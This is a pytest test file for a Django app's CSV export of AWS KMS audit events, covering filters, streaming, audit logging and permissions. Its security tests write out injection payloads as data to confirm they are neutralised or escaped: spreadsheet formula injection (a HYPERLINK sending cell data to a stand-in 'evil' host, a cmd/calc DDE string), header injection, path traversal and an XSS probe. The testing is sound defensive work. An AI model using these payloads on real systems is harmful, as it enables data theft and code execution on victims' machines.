from __future__ import annotations

import csv
import hashlib
import io
import re
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
import time_machine
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.core.management.base import CommandError
from django.http import QueryDict
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from audits.exports import HEADER, PAGE_ROWS, Snapshot, stream_export
from audits.filters import EventFilter
from audits.ingest import finish_run, ingest_records, start_run
from audits.models import Event
from audits.synthetic import generate_records, identity_role, identity_user, kms_record
from kmsdash.csvexport import neutralize, neutralize_text, start_export_audit
from kmsdash.models import ExportAudit
from tests.support import make_user

pytestmark = pytest.mark.django_db

ACCOUNT = "111122223333"
KEY = f"arn:aws:kms:us-east-1:{ACCOUNT}:key/1234abcd-12ab-34cd-56ef-1234567890ab"
OTHER_KEY = f"arn:aws:kms:us-east-1:{ACCOUNT}:key/0987dcba-09fe-87dc-65ba-ab0987654321"
T0 = datetime(2026, 11, 2, 10, 0, tzinfo=UTC)
URL = "/events/export.csv"
EARLY = "2026-01-01"


def ingest(records) -> None:
    run = start_run("files")
    counts = ingest_records(list(records), run=run)
    finish_run(run, counts)


def record(**overrides) -> dict:
    fields: dict[str, Any] = {
        "event_name": "Decrypt",
        "event_time": T0,
        "key_arn": KEY,
        "identity": identity_role(ACCOUNT, "app", "app-1"),
        "region": "us-east-1",
        "recipient_account_id": ACCOUNT,
    }
    fields.update(overrides)
    return kms_record(**fields)


@pytest.fixture
def admin_client(client):
    client.force_login(make_user("root-admin", "admin"))
    return client


def download(client, query: str = "") -> tuple[object, bytes]:
    # The explorer's export button always sends the page's window; without one the export would
    # cover the explorer's default period, which ends today, not in these tests' November.
    if "since=" not in query:
        query = "&".join(part for part in (query, f"since={EARLY}") if part)
    # The explorer's export button posts the filter as a form (with the page's CSRF token).
    response = client.post(URL, QueryDict(query))
    assert response.status_code == 200, response.content[:500]
    body = b"".join(response.streaming_content)
    return response, body


def parse(body: bytes) -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))
    assert tuple(rows[0]) == HEADER
    return [dict(zip(HEADER, row, strict=True)) for row in rows[1:]]


# --- what is exported ------------------------------------------------------------------------


def test_the_export_holds_exactly_the_events_the_filter_selects_oldest_first(admin_client):
    ingest(
        [
            record(event_time=T0 + timedelta(minutes=3), event_id="e-3"),
            record(event_time=T0 + timedelta(minutes=1), event_id="e-1", error_code="AccessDenied"),
            record(event_time=T0 + timedelta(minutes=2), event_id="e-2", key_arn=OTHER_KEY),
            record(event_time=T0 - timedelta(days=3), event_id="e-old"),
        ]
    )
    _, body = download(admin_client, f"key={KEY}&since=2026-11-01")
    assert [row["event_id"] for row in parse(body)] == ["e-1", "e-3"]
    _, body = download(admin_client, "error=any")
    assert [row["event_id"] for row in parse(body)] == ["e-1"]
    _, body = download(admin_client)
    assert [row["event_id"] for row in parse(body)] == ["e-old", "e-1", "e-2", "e-3"]


@pytest.mark.parametrize(
    "query",
    [
        "",
        "operation=Decrypt",
        "error=any",
        "error=none&after_hours=1",
        "account=444455556666&region=eu-west-1",
        "since=2026-10-05&until=2026-10-09",
        "since=2026-10-05T06:30:00Z&until=2026-10-05T18:00:00Z",
        "service=s3.amazonaws.com",
        "q=boto3",
    ],
)
def test_the_export_matches_the_explorer_filter_on_a_generated_month(admin_client, query):
    ingest(generate_records(600, seed=7, start=datetime(2026, 10, 1, tzinfo=UTC), days=20))
    expected = list(
        EventFilter.from_querydict(QueryDict(query))
        .events()
        .order_by("event_time", "id")
        .values_list("event_id", flat=True)
    )
    _, body = download(admin_client, query)
    assert [row["event_id"] for row in parse(body)] == expected
    if query:
        assert len(expected) < Event.objects.count()  # the filter really filtered


def test_every_column_is_exported(admin_client):
    ingest(
        [
            record(
                event_id="e-full",
                event_name="GenerateDataKey",
                identity=identity_role(ACCOUNT, "batch", "nightly", invoked_by="s3.amazonaws.com"),
                source_ip="198.51.100.7",
                error_code="AccessDenied",
                error_message="User is not authorized",
                encryption_context={"aws:s3:arn": "arn:aws:s3:::my-bucket/a.txt", "b": "é"},
                shared_event_id="8f0c1f8e-0000-4000-8000-000000000001",
                vpc_endpoint_id="vpce-1234",
            )
        ]
    )
    event = Event.objects.get(event_id="e-full")
    (row,) = parse(download(admin_client)[1])
    assert row == {
        "event_time": "2026-11-02T10:00:00Z",
        "event_id": "e-full",
        "recipient_account_id": ACCOUNT,
        "region": "us-east-1",
        "event_name": "GenerateDataKey",
        "key": KEY,
        "principal": event.principal,
        "principal_type": "AssumedRole",
        "session_name": "nightly",
        "service": "s3.amazonaws.com",
        "source_ip": event.source_ip,
        "user_agent": event.user_agent,
        "error_code": "AccessDenied",
        "error_message": "User is not authorized",
        "after_hours": "false",
        "read_only": "true",
        "encryption_context": '{"aws:s3:arn": "arn:aws:s3:::my-bucket/a.txt", "b": "é"}',
        "request_id": event.request_id,
        "shared_event_id": "8f0c1f8e-0000-4000-8000-000000000001",
        "vpc_endpoint_id": "vpce-1234",
        "s3_bucket": "my-bucket",
    }
    assert event.principal and event.request_id


# --- hostile cells ---------------------------------------------------------------------------


def test_formula_like_cells_are_neutralised_and_everything_else_is_kept_verbatim(admin_client):
    ingest(
        [
            record(
                event_id="e-hostile",
                identity=identity_role(ACCOUNT, "app", "=1+1"),
                user_agent='=HYPERLINK("http://evil/?d="&A1,"click")',
                error_code="AccessDenied",
                error_message="@SUM(1+9)*cmd|' /C calc'!A0\r\nsecond line, with \"quotes\"",
                encryption_context={"=cmd": "-2+3"},
            ),
            record(event_id="e-rtl", identity=identity_user(ACCOUNT, "eve\u202egnp.exe"), user_agent=" \t+cmd"),
        ]
    )
    _, body = download(admin_client)
    hostile, rtl = parse(body)
    assert hostile["session_name"] == "'=1+1"
    assert hostile["user_agent"] == '\'=HYPERLINK("http://evil/?d="&A1,"click")'
    assert hostile["error_message"] == "'@SUM(1+9)*cmd|' /C calc'!A0\r\nsecond line, with \"quotes\""
    # JSON starts with "{", which no spreadsheet reads as a formula.
    assert hostile["encryption_context"] == '{"=cmd": "-2+3"}'
    assert rtl["principal"].endswith("eve\u202egnp.exe")
    assert rtl["user_agent"] == "' \t+cmd"
    assert b'"\'=HYPERLINK(""http://evil/?d=""&A1,""click"")"' in body
    for row in (hostile, rtl):
        for value in row.values():
            assert value[:1] not in set("=+-@\t\r\n\0")


def test_a_formula_behind_any_unicode_whitespace_is_neutralised_in_any_text_column(admin_client):
    ingest(
        [
            record(event_id="e-nbsp", user_agent="\u00a0=cmd|' /C calc'!A0"),
            record(event_id="e-emsp", identity=identity_role(ACCOUNT, "app", "\u2003@SUM(1)")),
            record(event_id="e-last", error_code="AccessDenied", error_message="\x1c-2+3"),
            record(event_id="e-plain", user_agent="\u00a0plain", error_code="X", error_message="a=b"),
        ]
    )
    rows = {row["event_id"]: row for row in parse(download(admin_client)[1])}
    assert rows["e-nbsp"]["user_agent"] == "'\u00a0=cmd|' /C calc'!A0"
    assert rows["e-emsp"]["session_name"] == "'\u2003@SUM(1)"
    assert rows["e-last"]["error_message"] == "'\x1c-2+3"
    assert rows["e-plain"]["user_agent"] == "\u00a0plain" and rows["e-plain"]["error_message"] == "a=b"


@given(st.text(st.sampled_from("=+-@\t\r\n\0 \x0b\x1c\x85\u00a0\u2003\u3000\u200ba'{") | st.characters()))
def test_the_text_fast_path_neutralises_exactly_like_neutralize(value):
    assert neutralize_text(value) == neutralize(value)


def test_the_text_fast_path_agrees_after_every_kind_of_leading_whitespace():
    spaces = [chr(code) for code in range(0x110000) if chr(code).isspace()]
    for first in [*spaces, "=", "a", "\u200b"]:
        for rest in ["=1", "+1", "-1", "@a", "\t", "\0", "a", " =1", "", "\u200b=1"]:
            value = first + rest
            assert neutralize_text(value) == neutralize(value), repr(value)


def test_times_keep_their_microseconds_and_contexts_are_written_with_sorted_keys(admin_client):
    common = {"recipient_account_id": ACCOUNT, "event_name": "Decrypt", "region": "us-east-1"}
    Event.objects.create(
        event_id="e-micro",
        event_time=T0.replace(microsecond=123456),
        # jsonb stores keys shortest first; the export must not depend on the backend's order.
        encryption_context={"bb": "2", "a": "1", "ccc": {"z": None, "y": ["é", 1]}},
        **common,
    )
    Event.objects.create(event_id="e-null", event_time=T0 + timedelta(seconds=1), encryption_context=None, **common)
    Event.objects.create(event_id="e-empty", event_time=T0 + timedelta(seconds=2), encryption_context={}, **common)
    micro, null, empty = parse(download(admin_client)[1])
    assert micro["event_time"] == "2026-11-02T10:00:00.123456Z"
    assert micro["encryption_context"] == '{"a": "1", "bb": "2", "ccc": {"y": ["é", 1], "z": null}}'
    assert micro["read_only"] == "" and micro["after_hours"] == "false"
    assert null["event_time"] == "2026-11-02T10:00:01Z" and null["encryption_context"] == ""
    assert empty["encryption_context"] == "{}"


def test_the_file_is_utf8_with_crlf_line_ends(admin_client):
    ingest([record(event_id="e-1", user_agent="agent/ü")])
    _, body = download(admin_client)
    text = body.decode("utf-8")
    assert "agent/ü" in text
    assert text.endswith("\r\n") and text.count("\r\n") == 2 and "\n" not in text.replace("\r\n", "")


# --- response and audit ----------------------------------------------------------------------


def test_the_response_is_an_uncacheable_attachment_with_a_server_made_name(admin_client):
    ingest([record(event_id="e-1")])
    with time_machine.travel(datetime(2026, 11, 3, 8, 9, 10, tzinfo=UTC), tick=False):
        response, _ = download(admin_client, "principal=%22%0D%0ASet-Cookie:%20x=y&key=..%2F..%2Fetc")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="kms-events-20261103T080910Z.csv"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"]
    assert "x" not in response.cookies
    assert response.streaming


def test_every_download_is_audited_with_the_filter_row_count_and_hash(admin_client):
    ingest([record(event_id=f"e-{i}", event_time=T0 + timedelta(seconds=i)) for i in range(5)])
    before = datetime.now(UTC)
    response = admin_client.post(URL, {"operation": "Decrypt", "after_hours": "0", "since": EARLY})
    after = datetime.now(UTC)
    audit = ExportAudit.objects.get()
    # Written before the first byte is sent.
    assert audit.status == ExportAudit.Status.STARTED
    body = b"".join(response.streaming_content)
    audit.refresh_from_db()
    assert audit.status == ExportAudit.Status.COMPLETED
    assert audit.username == "root-admin" and audit.user.username == "root-admin"
    assert audit.kind == "events" and audit.via == "web"
    assert audit.rows == 5 == len(parse(body))
    assert audit.sha256 == hashlib.sha256(body).hexdigest()
    snapshot = {k: audit.filters.pop(k) for k in ("as_of", "last_id")}
    assert audit.filters == {"operation": "Decrypt", "after_hours": "0", "since": EARLY}
    assert before <= datetime.fromisoformat(snapshot["as_of"]) <= after
    assert snapshot["last_id"] == Event.objects.latest("id").pk


def test_a_download_cut_short_is_recorded_as_aborted_with_what_was_sent(admin_client):
    ingest(generate_records(1300, seed=3, start=datetime(2026, 10, 1, tzinfo=UTC), days=5))
    audit = start_export_audit(user=None, kind="events", filters={})
    stream = stream_export(EventFilter(), Snapshot.now(), audit)
    first = next(stream)
    stream.close()  # what the WSGI server does when the client goes away
    audit.refresh_from_db()
    assert audit.status == ExportAudit.Status.ABORTED
    assert audit.rows == first.count(b"\r\n") - 1 < 1300
    assert audit.sha256 == hashlib.sha256(first).hexdigest()


def test_events_written_while_the_export_streams_do_not_change_it(admin_client):
    ingest(generate_records(PAGE_ROWS + 600, seed=5, start=T0 - timedelta(days=2), days=1))
    with time_machine.travel(T0, tick=False) as clock:
        response = admin_client.post(URL)
        chunks = iter(response.streaming_content)
        body = next(chunks)
        clock.shift(timedelta(minutes=10))
        # New calls since the export began, and a late CloudTrail delivery of an old call, both
        # after the rows already sent.
        ingest(
            [
                record(event_id="e-new", event_time=T0 + timedelta(minutes=5)),
                record(event_id="e-late", event_time=T0 - timedelta(hours=1)),
            ]
        )
        body += b"".join(chunks)
    rows = parse(body)
    assert not {"e-new", "e-late"} & {row["event_id"] for row in rows}
    assert len(rows) == PAGE_ROWS + 600 == ExportAudit.objects.get().rows
    _, again = download(admin_client)
    assert {"e-new", "e-late"} <= {row["event_id"] for row in parse(again)}


def test_rows_with_the_same_time_across_a_page_boundary_are_neither_lost_nor_repeated(admin_client):
    same = T0 - timedelta(hours=1)
    ingest([record(event_id=f"s-{i:05d}", event_time=same) for i in range(PAGE_ROWS + 5)])
    ingest([record(event_id="after", event_time=same + timedelta(seconds=1))])
    rows = parse(download(admin_client)[1])
    ids = [row["event_id"] for row in rows]
    assert len(ids) == len(set(ids)) == PAGE_ROWS + 6
    assert ids[-1] == "after"
    stored = list(Event.objects.order_by("event_time", "id").values_list("event_id", flat=True))
    assert ids == stored


def test_an_invalid_filter_is_refused_rather_than_exporting_everything(admin_client):
    ingest([record(event_id="e-1")])
    response = admin_client.post(URL, {"since": "yesterday"})
    assert response.status_code == 400
    assert b"since must be an ISO date" in response.content
    assert not ExportAudit.objects.exists()


def test_get_is_not_allowed_and_a_post_needs_the_csrf_token(admin_client):
    # A GET could be triggered by another site (an <img>, a link) in an admin's browser.
    assert admin_client.get(f"{URL}?since={EARLY}").status_code == 405
    strict = Client(enforce_csrf_checks=True)
    strict.force_login(get_user_model().objects.get(username="root-admin"))
    assert strict.post(URL, {"since": EARLY}).status_code == 403
    assert not ExportAudit.objects.exists()
    token = strict.get("/events/").context["csrf_token"]
    assert strict.post(URL, {"since": EARLY, "csrfmiddlewaretoken": str(token)}).status_code == 200
    assert ExportAudit.objects.count() == 1


# --- who may export --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("roles", "permission", "status"),
    [
        (("admin",), None, 200),
        ((), "kmsdash.export_audit_csv", 200),
        (("analyst",), "kmsdash.export_audit_csv", 200),
        (("analyst",), None, 403),
        (("finance",), None, 403),
        (("analyst", "finance"), None, 403),
        ((), None, 403),
    ],
)
def test_only_admins_and_holders_of_the_export_permission_may_export(client, roles, permission, status):
    client.force_login(make_user("someone", *roles, permission=permission))
    assert client.post(URL).status_code == status
    assert ExportAudit.objects.count() == (1 if status == 200 else 0)


def test_anonymous_users_are_sent_to_the_login_page(client):
    response = client.post(URL)
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/?next=")
    assert not ExportAudit.objects.exists()


# --- the command line ------------------------------------------------------------------------


def test_the_command_writes_the_same_bytes_as_the_web_export_and_is_audited(admin_client, tmp_path):
    ingest(generate_records(300, seed=11, start=datetime(2026, 10, 1, tzinfo=UTC), days=10))
    key = Event.objects.order_by("id").values_list("key", flat=True).first()
    _, web = download(admin_client, f"key={key}&error=any&since=2026-10-02&until=2026-10-08")
    output = tmp_path / "out.csv"
    call_command(
        "export_audit_csv",
        "--key",
        key,
        "--failed",
        "--since",
        "2026-10-02",
        "--until",
        "2026-10-08",
        "--output",
        str(output),
        stderr=io.StringIO(),
    )
    assert output.read_bytes() == web
    cli = ExportAudit.objects.get(via="cli")
    assert cli.user is None and cli.status == ExportAudit.Status.COMPLETED
    assert cli.sha256 == hashlib.sha256(web).hexdigest()
    assert {k: v for k, v in cli.filters.items() if k not in ("as_of", "last_id")} == {
        "key": key,
        "error": "any",
        "since": "2026-10-02",
        "until": "2026-10-08",
    }


def test_the_command_maps_after_hours_operation_and_principal(admin_client, tmp_path):
    ingest(generate_records(300, seed=13, start=datetime(2026, 10, 1, tzinfo=UTC), days=10))
    principal = Event.objects.exclude(principal="").values_list("principal", flat=True).first()
    output = tmp_path / "out.csv"
    call_command(
        "export_audit_csv",
        "--after-hours",
        "--operation",
        "Decrypt",
        "--principal",
        principal,
        "--output",
        str(output),
        stderr=io.StringIO(),
    )
    expected = Event.objects.filter(after_hours=True, event_name="Decrypt", principal=principal)
    assert expected.exists()
    assert {row["event_id"] for row in parse(output.read_bytes())} == set(expected.values_list("event_id", flat=True))


def test_the_command_refuses_an_invalid_filter_without_an_audit_row(tmp_path):
    with pytest.raises(CommandError, match="since"):
        call_command("export_audit_csv", "--since", "last week", "--output", str(tmp_path / "x.csv"))
    assert not ExportAudit.objects.exists()


def test_the_filename_pattern_allows_only_safe_characters():
    from audits.exports import export_filename

    assert re.fullmatch(r"[A-Za-z0-9_.-]+", export_filename(datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)))


def test_the_exports_page_lists_every_export_with_its_filter_escaped(admin_client, tmp_path):
    ingest([record(event_id="e-1")])
    download(admin_client, "principal=<img src=x onerror=alert(1)>")
    call_command("export_audit_csv", "--output", str(tmp_path / "all.csv"), stderr=io.StringIO())
    html = admin_client.get("/exports/").content.decode()
    assert "&lt;img src=x onerror=alert(1)&gt;" in html and "<img src=x" not in html
    assert html.count("<tr>") == 3  # header and two exports
    web, cli = ExportAudit.objects.order_by("created_at")
    assert web.sha256 in html and cli.sha256 in html
    assert ">cli<" in html and ">web<" in html
